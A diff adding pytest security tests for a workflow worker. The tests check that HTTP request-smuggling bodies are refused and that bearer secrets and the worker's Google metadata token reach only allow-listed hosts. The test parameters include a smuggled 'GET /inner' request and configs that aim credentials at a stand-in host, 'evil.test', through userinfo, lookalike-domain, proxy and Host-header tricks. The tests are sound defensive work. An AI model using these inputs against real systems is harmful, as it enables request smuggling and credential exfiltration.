@@ -1,0 +1,216 @@
+"""Door 10: what a playbook can have an HTTP request carry, and where it can have a secret of the worker sent to."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from noetl_worker.delivery.dead_letter import Letter, pack
+from noetl_worker.errors import ConfigurationError, CredentialError, ToolError
+from noetl_worker.models import ToolResult
+from noetl_worker.testing import run_tool
+from tools.http_server import Answer, ToolServer, as_json
+
+
+@pytest.fixture
+def server() -> Iterator[ToolServer]:
+    with ToolServer() as running:
+        yield running
+
+
+# ── two ways of saying where a body ends ────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize("spelling", ["Transfer-Encoding", "transfer-encoding", "TRANSFER-ENCODING"])
+def test_transfer_encoding_beside_a_length_is_refused(server: ToolServer, spelling: str) -> None:
+    config = {"url": server.url("/echo"), "method": "POST", "body": "0\r\n\r\nGET /inner HTTP/1.1\r\n\r\n"}
+    with pytest.raises(ConfigurationError, match="Transfer-Encoding beside a Content-Length is refused"):
+        run_tool("http", {**config, "headers": {spelling: "chunked"}})
+    with pytest.raises(ConfigurationError, match="Transfer-Encoding beside a Content-Length is refused"):
+        run_tool("http", {**config, "auth": {"type": "headers", "headers": {spelling: "chunked"}}})
+    assert server.requests == []
+
+
+@pytest.mark.parametrize(
+    ("kind", "config"),
+    [
+        ("mcp", {"endpoint": "{url}", "method": "tools/list", "headers": {"Transfer-Encoding": "chunked"}}),
+        ("artifact", {"uri": "{url}", "action": "put", "data": "x", "headers": {"Transfer-Encoding": "chunked"}}),
+    ],
+)
+def test_transfer_encoding_is_refused_by_the_other_kinds_too(
+    server: ToolServer, kind: str, config: dict[str, Any]
+) -> None:
+    placed = {name: server.url("/echo") if value == "{url}" else value for name, value in config.items()}
+    with pytest.raises(ConfigurationError, match="Transfer-Encoding beside a Content-Length is refused"):
+        run_tool(kind, placed)
+    assert server.requests == []
+
+
+# ── source: secret ──────────────────────────────────────────────────────────────────────────────
+
+SECRET = {"type": "bearer", "source": "secret", "key": "weather"}
+
+
+def ask(url: str, **config: Any) -> ToolResult:
+    return run_tool("http", {"url": url, "auth": SECRET, **config})
+
+
+@pytest.fixture
+def named(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
+    monkeypatch.setenv("NOETL_SECRET_WEATHER", "sunny-key")
+    monkeypatch.setenv("NOETL_SECRET_WEATHER_HOSTS", "127.0.0.1, *.weather.test")
+    return monkeypatch
+
+
+def test_secret_without_named_hosts_is_sent_nowhere(server: ToolServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("NOETL_SECRET_WEATHER", "sunny-key")
+    with pytest.raises(CredentialError, match="set NOETL_SECRET_WEATHER_HOSTS for the worker"):
+        ask(server.url("/echo"))
+    assert server.requests == []
+
+
+@pytest.mark.parametrize("hosts", ["127.0.0.1", "*", "other.test,127.0.0.*", "127.0.0.1:{port}"])
+def test_secret_is_sent_to_its_named_hosts(server: ToolServer, named: pytest.MonkeyPatch, hosts: str) -> None:
+    named.setenv("NOETL_SECRET_WEATHER_HOSTS", hosts.replace("{port}", str(server.port)))
+    assert ask(server.url("/echo")).data["data"]["headers"]["authorization"] == "Bearer sunny-key"
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        {"url": "http://evil.test/"},
+        {"url": "http://weather.test.evil.test/"},
+        {"url": "http://127.0.0.1@evil.test/"},
+        {"url": "http://127.0.0.1/", "proxy": "http://evil.test:3128"},
+        {"url": "http://127.0.0.1/", "headers": {"hOST": "evil.test"}},
+        {"url": "http://127.0.0.1/", "auth": {"a": SECRET, "b": {"type": "api_key", "token": "k"}},
+         "headers": {"Host": "evil.test"}},
+    ],
+)  # fmt: skip
+def test_secret_leaves_for_no_other_host(named: pytest.MonkeyPatch, attack: dict[str, Any]) -> None:
+    with pytest.raises(
+        CredentialError, match=r"NOETL_SECRET_WEATHER may not be sent to 'evil\.test'|'weather\.test\.e"
+    ):
+        ask(**attack)
+
+
+def test_page_that_leads_elsewhere_gets_no_secret(server: ToolServer, named: pytest.MonkeyPatch) -> None:
+    named.setenv("NOETL_SECRET_WEATHER_HOSTS", "localhost")
+    server.routes["/first"] = lambda seen: Answer(200, b'{"next": "%s"}' % server.url("/echo").encode())
+    pages = {"on_success": {"while": True, "next_call": {"url": "{{ response.next }}"}, "collect": {"path": ""}}}
+    with pytest.raises(CredentialError, match=r"may not be sent to '127\.0\.0\.1'"):
+        ask(server.url("/first", host="localhost"), retry=pages)
+    assert [seen.path for seen in server.requests] == ["/first"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "config"),
+    [
+        ("mcp", {"endpoint": "http://evil.test/mcp", "method": "tools/list"}),
+        ("artifact", {"uri": "http://evil.test/x"}),
+        ("python", {"script": {"uri": "http://evil.test/x.py", "source": {"type": "http", "auth": SECRET}}}),
+    ],
+)
+def test_other_kinds_send_the_secret_to_its_hosts_only(
+    named: pytest.MonkeyPatch, kind: str, config: dict[str, Any]
+) -> None:
+    with pytest.raises(CredentialError, match=r"may not be sent to 'evil\.test'"):
+        run_tool(kind, {**config, **({} if kind == "python" else {"auth": SECRET})})
+
+
+def test_secret_with_named_hosts_is_not_handed_to_tasks_either(named: pytest.MonkeyPatch) -> None:
+    with pytest.raises(ToolError, match="is for the hosts of the worker's NOETL_SECRET_WEATHER_HOSTS only"):
+        run_tool("secrets", {"name": "weather"})
+    named.setenv("NOETL_SECRET_WEATHER_HOSTS", "*")
+    assert run_tool("secrets", {"name": "weather"}).data["value"] == "sunny-key"
+
+
+# ── the worker's own identity at Google ─────────────────────────────────────────────────────────
+
+
+@pytest.fixture
+def identity(server: ToolServer, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> ToolServer:
+    """A machine of Google's: its metadata service gives a token to whoever asks."""
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
+    monkeypatch.setenv("GCE_METADATA_HOST", f"127.0.0.1:{server.port}")
+    path = "/computeMetadata/v1/instance/service-accounts/default/token"
+    server.routes[path] = lambda seen: as_json({"access_token": "mine"})
+    return server
+
+
+OWN = {"type": "gcp_adc"}
+
+
+@pytest.mark.parametrize(
+    ("kind", "config"),
+    [
+        ("http", {"url": "{url}", "auth": OWN}),
+        ("http", {"url": "{url}", "auth": {"one": OWN, "two": {"type": "none"}}}),
+        ("http", {"url": "{url}", "headers": {"Authorization": "Bearer {{ token('own') }}"}}),
+        ("http", {"url": "http://storage.googleapis.com/", "auth": OWN, "proxy": "{url}"}),
+        ("http", {"url": "{url}", "auth": OWN, "headers": {"Host": "storage.googleapis.com"}}),
+        ("http", {"url": "http://googleapis.com.example.net/", "auth": OWN}),
+        ("mcp", {"endpoint": "{url}", "method": "tools/list", "auth": OWN}),
+        ("artifact", {"uri": "{url}", "action": "get", "auth": OWN}),
+        ("python", {"script": {"uri": "{url}", "source": {"type": "http", "auth": OWN}}}),
+    ],
+)
+def test_own_google_identity_of_the_worker_leaves_for_no_other_host(
+    identity: ToolServer, kind: str, config: dict[str, Any]
+) -> None:
+    """A playbook has a token of the worker's service account sent to a server of its own."""
+
+    def placed(value: Any) -> Any:
+        if isinstance(value, dict):
+            return {name: placed(one) for name, one in value.items()}
+        return identity.url("/echo") if value == "{url}" else value
+
+    with pytest.raises(CredentialError, match=r"own Google identity may not be sent to .*NOETL_WORKER_GOOGLE_HOSTS"):
+        run_tool(kind, placed(config), credentials={"own": OWN})
+    assert identity.requests == []
+
+
+def test_own_google_identity_is_sent_to_its_named_hosts(identity: ToolServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("NOETL_WORKER_GOOGLE_HOSTS", "127.0.0.1")
+    config = {"url": identity.url("/echo"), "auth": OWN}
+    assert run_tool("http", config).data["data"]["headers"]["authorization"] == "Bearer mine"
+
+
+# ── OAuth2 ──────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize("grant", ["password", "refresh_token", "authorization_code", "", 7])
+def test_grant_that_is_not_known_is_refused(server: ToolServer, grant: Any) -> None:
+    auth = {"type": "oauth2", "token_url": server.url("/token"), "client_id": "me", "client_secret": "hush-hush"}
+    for given in (auth, {"credential": "kept"}):
+        values = {**given, "grant_type": grant}
+        with pytest.raises(ConfigurationError, match=r"grant_type .* is not supported; only client_credentials is"):
+            run_tool("http", {"url": server.url("/echo"), "auth": values}, credentials={"kept": auth})
+    assert server.requests == []
+    known = {**auth, "grant_type": "client_credentials"}
+    assert run_tool("http", {"url": server.url("/echo"), "auth": known}).error is None
+
+
+# ── dead letters ────────────────────────────────────────────────────────────────────────────────
+
+
+def test_dead_letter_keeps_no_credential_of_a_header() -> None:
+    credentials = {
+        "Authorization": "Bearer aaa-1",
+        "proxy-authorization": "Basic aaa-2",
+        "COOKIE": "session=aaa-3",
+        "Set-Cookie": "session=aaa-4",
+        "X-Auth-Token": "aaa-5",
+        "x-goog-iam-token": "aaa-6",
+    }
+    body = pack(b"{}", {**credentials, "traceparent": "00-1", "Nats-Msg-Id": "7"}, reason="r", subject="s")
+    assert b"aaa-" not in body
+    letter = Letter.parse(body)
+    assert dict(letter.headers) == {"traceparent": "00-1", "Nats-Msg-Id": "7"}
+    assert set(letter.headers_left_out) == set(credentials)
+    assert dict(letter.detail) == {}
